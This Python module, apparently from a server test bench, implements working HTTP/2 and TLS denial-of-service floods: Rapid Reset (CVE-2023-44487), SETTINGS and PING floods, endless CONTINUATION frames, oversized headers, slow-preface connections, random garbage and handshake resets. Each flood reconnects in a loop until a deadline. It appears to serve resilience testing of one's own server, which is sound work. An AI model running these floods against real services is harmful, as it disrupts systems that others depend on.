"""Floods of the protocol: traffic that HTTP/2 and TLS allow on any accepted connection.

Each floods until `ends` (monotonic seconds), with the certificate of a device (PEM, with its key) and without a token.
It begins again whenever the server ends its connection, and returns how often it sent the thing named in its docstring.
"""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from ssl import SSLSocket

from bench.attack.http2 import (
    CANCEL,
    CHECK_PERSON,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    LONGEST,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    connect,
    frame,
    headers,
    place_of,
    received,
)
from bench.attack.strangers import reset_connections

Flood = Callable[[str, Path, float], int]

_AT_ONCE = 100  # frames in one write
_LAST_STREAM = 2**31 - 2 * _AT_ONCE
_PAUSE_S = 0.02  # after a connection that was ended or refused
_SLOW = 200  # connections that begin slowly, at once
_SLOWLY_S = 0.5  # between two bytes of each
_GARBAGE_BYTES = 4096
_RESETS = 200


def _flooded(address: str, certificate: Path, ends: float, write: Callable[[SSLSocket, int], int], reads: bool) -> int:
    """Calls `write` with a connection and how often it wrote on it, until `ends`. reads: hears what comes back."""
    done = 0
    while time.monotonic() < ends:
        with suppress(OSError), connect(address, certificate) as connection:
            connection.settimeout(1)
            connection.sendall(PREFACE)
            number = 0
            while time.monotonic() < ends:
                done += write(connection, number)
                number += 1
                if reads:
                    received(connection)
        time.sleep(_PAUSE_S)
    return done


def rapid_reset(address: str, certificate: Path, ends: float) -> int:
    """Calls begun and reset at once (CVE-2023-44487)."""
    block = headers(CHECK_PERSON)

    def write(connection: SSLSocket, number: int) -> int:
        first = (2 * _AT_ONCE * number) % _LAST_STREAM + 1
        connection.sendall(
            b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in range(first, first + 2 * _AT_ONCE, 2)
            )
        )
        return _AT_ONCE

    return _flooded(address, certificate, ends, write, reads=True)


def settings_flood(address: str, certificate: Path, ends: float) -> int:
    """Sends SETTINGS without reading the acknowledgements (CVE-2019-9515)."""
    frames = frame(SETTINGS, 0, 0) * _AT_ONCE

    def write(connection: SSLSocket, _number: int) -> int:
        connection.sendall(frames)
        return _AT_ONCE

    return _flooded(address, certificate, ends, write, reads=False)


def ping_flood(address: str, certificate: Path, ends: float) -> int:
    """Sends PINGs without reading the answers (CVE-2019-9512)."""
    frames = frame(PING, 0, 0, bytes(8)) * _AT_ONCE

    def write(connection: SSLSocket, _number: int) -> int:
        connection.sendall(frames)
        return _AT_ONCE

    return _flooded(address, certificate, ends, write, reads=False)


def many_headers(address: str, certificate: Path, ends: float) -> int:
    """Calls with a thousand headers each, as large as one frame takes."""
    block = headers(CHECK_PERSON, [(f"x-{number}", "aaaa") for number in range(1000)])[:LONGEST]

    def write(connection: SSLSocket, number: int) -> int:
        connection.sendall(frame(HEADERS, END_HEADERS, 2 * number + 1, block))
        return 1

    return _flooded(address, certificate, ends, write, reads=True)


def headers_without_end(address: str, certificate: Path, ends: float) -> int:
    """CONTINUATION frames of headers that never end (CVE-2024-27316 and its kin)."""
    block = headers(CHECK_PERSON)
    more = headers(CHECK_PERSON, [("x-more", "a" * 12_000)])[len(block) :]

    def write(connection: SSLSocket, number: int) -> int:
        if number == 0:
            connection.sendall(frame(HEADERS, 0, 1, block))
        connection.sendall(frame(CONTINUATION, 0, 1, more))
        return 1

    return _flooded(address, certificate, ends, write, reads=True)


def garbage(address: str, certificate: Path, ends: float) -> int:
    """Connections that send anything but TLS."""
    del certificate
    done = 0
    while time.monotonic() < ends:
        with suppress(OSError), socket.create_connection(place_of(address), timeout=1) as connection:
            connection.sendall(os.urandom(_GARBAGE_BYTES))
            done += 1
        time.sleep(_PAUSE_S / 10)
    return done


def slow_preface(address: str, certificate: Path, ends: float) -> int:
    """Bytes of HTTP/2's preface, one at a time on each of many connections."""
    held: list[tuple[SSLSocket, int]] = []
    done = 0
    while time.monotonic() < ends:
        while len(held) < _SLOW and time.monotonic() < ends:
            try:
                held.append((connect(address, certificate), 0))
            except OSError:
                break
        still = []
        for connection, said in held:
            try:
                connection.sendall(PREFACE[said : said + 1] if said < len(PREFACE) - 1 else b"")
            except OSError:
                connection.close()
                continue
            still.append((connection, said + 1))
            done += 1
        held = still
        time.sleep(_SLOWLY_S)
    for connection, _ in held:
        connection.close()
    return done


def resets_in_the_handshake(address: str, certificate: Path, ends: float) -> int:
    """Connections that are reset at whatever moment of the handshake."""
    del certificate
    done = 0
    while time.monotonic() < ends:
        with suppress(OSError):
            reset_connections(address, _RESETS)
            done += _RESETS
        time.sleep(_PAUSE_S)
    return done
